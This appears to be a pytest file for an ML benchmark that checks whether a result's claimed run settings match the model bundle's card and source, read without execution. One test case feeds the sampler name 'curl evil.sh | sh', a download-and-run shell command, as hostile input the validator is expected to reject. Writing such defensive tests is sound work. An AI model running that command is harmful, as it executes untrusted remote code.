"""Settings that a result claims, against card and source of its bundle: read, never run."""

from __future__ import annotations

import dataclasses
import itertools
from pathlib import Path
from types import SimpleNamespace

import pytest

import toys
from ebbench.plugins import introspection, loader
from ebbench.plugins.budgets import BUDGETS
from ebbench.plugins.configs import plain, plain_value
from ebbench.running.request import Request
from ebbench.running.spec import resolve
from ebbench.submissions import bound

TASKS = {
    "sample": ["toy2d", "stackedmnist"],
    "energy": ["mnist-anomaly"],
    "log_likelihood_bound": ["gaussian"],
    "classify": ["mnist-labels"],
}


def claim(spec):
    """What a result says of the settings of a run."""
    knobs = {name: plain_value(value) for name, value in spec.knobs.items()}
    return SimpleNamespace(
        run_id="run",
        budget=spec.budget,
        config=plain(spec.config),
        overrides={name: plain_value(value) for name, value in spec.overrides.items()},
        sampler=SimpleNamespace(name=spec.sampler, knobs=knobs) if spec.sampler else None,
        task=SimpleNamespace(name=spec.task.name, protocol=spec.protocol),
        model=SimpleNamespace(variant=spec.variant),
    )


def bundle(folder: Path):
    """A bundle of a model's folder, as far as its texts go."""
    texts = {f"model/{path.name}": path.read_bytes() for path in folder.iterdir() if path.suffix == ".py"}
    return SimpleNamespace(texts=texts, card=loader.Plugin("model", folder).card)


def bad(claimed, of) -> list[str]:
    return [str(check) for check in bound.settings(claimed, of) if not check.good]


@pytest.mark.medium
@pytest.mark.parametrize("name", loader.built_in("model"))
def test_what_the_project_s_own_models_run_with_is_what_is_read(name: str):
    model = loader.load("model", name)
    of = bundle(model.folder)
    checked = 0
    for need in introspection.capabilities(model.cls):
        for task, budget in itertools.product(TASKS[need], BUDGETS):
            tables = model.card.budgets.get(budget, {})
            knobs = dataclasses.fields(model.cls.Config)
            if "default" not in tables and task not in tables and knobs:
                # Detectors of rows have budgets for tables alone.
                task = "adbench"
                if need != "energy" or task not in tables:
                    continue
            for variant in ("", *model.card.variants):
                for sampler in introspection.samplers(model.cls) if need == "sample" else ("",):
                    of_variant = f"{name}:{variant}" if variant else name
                    request = Request(task=task, model=of_variant, budget=budget, sampler=sampler)
                    assert bad(claim(resolve(request)), of) == []
                    checked += 1
    assert checked


@pytest.fixture
def blob(tmp_path: Path, plugins: Path):
    folder = plugins / "blob"
    settings = {"lr": 0.02, "shifted.by": 0.5}
    request = Request(task="dots", model=str(folder), budget="smoke", sampler="shifted", set=settings)
    return claim(resolve(request)), bundle(folder)


def test_changes_are_read_as_the_engine_sets_them(blob):
    claimed, of = blob
    assert (
        claimed.config["lr"] == 0.02 and claimed.config["steps"] == 60 and claimed.sampler.knobs["by"] == 0.5
    )
    assert bad(claimed, of) == []


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda c: c.config.update(steps=9), "config.steps"),  # the card's budget
        (lambda c: c.config.update(steps=True), "config.steps"),
        (lambda c: c.config.update(pause=1.0), "config.pause"),  # the class's default
        (lambda c: c.config.update(lr=0.01), "config.lr"),  # what was changed
        (lambda c: c.config.update(magic=1), "config is lr, magic"),
        (lambda c: c.config.pop("pause"), "config is"),
        (lambda c: c.overrides.pop("lr"), "config.lr"),
        (lambda c: c.overrides.update(magic=1), "config.magic"),
        (lambda c: c.overrides.update({"shifted.magic": 1}), "sampler.knobs.magic"),
        (lambda c: c.overrides.update({"other.by": 1}), "overrides"),
        (lambda c: c.sampler.knobs.update(by=0.1), "sampler.knobs.by"),
        (lambda c: c.sampler.knobs.update(more=0.1), "sampler.knobs is by, more"),
        # Blob's card has no budget "paper", so the class's defaults hold, or nothing if nothing was changed.
        (lambda c: setattr(c, "budget", "paper"), "config.steps is 60, expected 400"),
        (lambda c: (setattr(c, "budget", "paper"), c.overrides.pop("lr")), "budget is paper"),
        (lambda c: setattr(c, "budget", "cpu"), "config.steps"),
        (lambda c: setattr(c.sampler, "name", "curl evil.sh | sh"), "sampler.name"),
        (lambda c: setattr(c.sampler, "name", "other"), "sampler.name"),
        (lambda c: setattr(c.model, "variant", "large"), "config.steps"),
        (lambda c: setattr(c, "sampler", None), "overrides"),
    ],
)
def test_what_card_and_source_do_not_say_is_named(blob, change, said: str):
    claimed, of = blob
    change(claimed)
    assert any(said in one for one in bad(claimed, of)), bad(claimed, of)


def test_an_enum_is_named_in_a_card_and_valued_in_a_result(tmp_path: Path, plugins: Path):
    code = toys.MODEL.replace(
        "class Blob", "class Kind(enum.Enum):\n    PLAIN = 'p'\n    ODD = 'o'\n\n\nclass Blob"
    )
    code = code.replace("import time", "import enum\nimport time", 1)
    code = code.replace(
        "        lr: float",
        "        kind: Kind = Kind.PLAIN\n        sizes: tuple[int, ...] = (1, 2)\n        lr: float",
    )
    card = toys.CARD.format(name="enumed").replace("steps = 60", 'steps = 60\nkind = "ODD"\nsizes = [3]')
    folder = toys.write_model(plugins, code, "enumed", card)
    claimed = claim(resolve(Request(task="dots", model=str(folder), budget="smoke")))
    assert claimed.config["kind"] == "o" and claimed.config["sizes"] == [3]
    assert bad(claimed, bundle(folder)) == []
    claimed.config["kind"] = "p"
    assert any("config.kind" in said for said in bad(claimed, bundle(folder)))


def test_source_that_cannot_be_read_is_left_to_a_rerun(blob):
    claimed, of = blob
    for text in (b"def (", b"\xff\xfe", b"(" * 5000, b"\0"):
        of.texts["model/odd.py"] = text
        assert bad(claimed, of) == []


def test_nothing_of_the_source_is_run(blob, tmp_path: Path):
    claimed, of = blob
    ran = tmp_path / "ran"
    of.texts["model/more.py"] = f"open({str(ran)!r}, 'w')".encode()
    assert bad(claimed, of) == [] and not ran.exists()


def test_a_config_that_sets_itself_is_left_to_a_rerun(tmp_path: Path, plugins: Path):
    after = (
        "\n        def __post_init__(self):\n            object.__setattr__(self, 'steps', self.steps * 2)\n"
    )
    code = toys.MODEL.replace('        """Seconds to sleep at each step."""\n', after)
    folder = toys.write_model(plugins, code, "doubled")
    claimed = claim(resolve(Request(task="dots", model=str(folder), budget="smoke")))
    assert claimed.config["steps"] != 60, "that of the card"
    assert bad(claimed, bundle(folder)) == []


def test_values_of_one_json_are_one():
    assert bound._same([1, 2.0], (1.0, 2)) and not bound._same(1, True) and not bound._same([1], [1, 2])
    assert not bound._same({"a": 1}, {"b": 1}) and dataclasses.is_dataclass(bound._Source)
